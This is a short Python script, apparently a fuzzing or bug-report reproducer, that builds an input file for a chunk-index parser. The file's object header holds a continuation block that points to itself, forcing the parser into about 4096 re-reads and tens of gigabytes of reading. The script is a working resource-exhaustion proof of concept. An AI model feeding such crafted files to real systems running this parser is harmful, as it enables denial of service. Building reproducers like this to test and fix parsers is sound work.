#!/usr/bin/env python3
"""Writes a fuzz_chunkindex input (17-byte query prefix + file image) whose version 1 object
header has one continuation block of L bytes that names itself as its own continuation.
hfeed__chunkindex_read re-reads that block MAX_OH_BLOCKS (4096) times before it reports
"object header continuations loop": 4096 * L bytes of pread, malloc and scan.
L = 8 MiB: 32 GiB read, about 36 s under ASan; L = 16 MiB - 8 (the cap) gives 64 GiB.
Usage: make_cont_loop.py OUT [L_MIB]"""
import struct, sys

L = int(float(sys.argv[2]) * (1 << 20)) if len(sys.argv) > 2 else 8 << 20
L -= L % 8
C = 4096  # continuation block address


def msg(t, body):
    return struct.pack("<HHB3x", t, len(body), 0) + body


cont = msg(0x10, struct.pack("<QQ", C, L))  # continuation: address C, length L
hdr = struct.pack("<BBHII4x", 1, 0, 1, 1, len(cont)) + cont  # v1 prefix + that one message
img = bytearray(C + L)
img[0:len(hdr)] = hdr
blk = bytearray(cont)  # the block at C starts with the same continuation message (to itself)
while len(blk) < L:  # and is padded with NIL messages (size field is 16 bits)
    blk += msg(0, b"\0" * min(65528, L - len(blk) - 8))
img[C:C + L] = blk
# query: header_addr 0, rank 1, dims0 8, chunk0 1, base 0
prefix = struct.pack("<IBHHHHI", 0, 0, 8, 1, 0, 0, 0)
open(sys.argv[1], "wb").write(prefix + bytes(img))
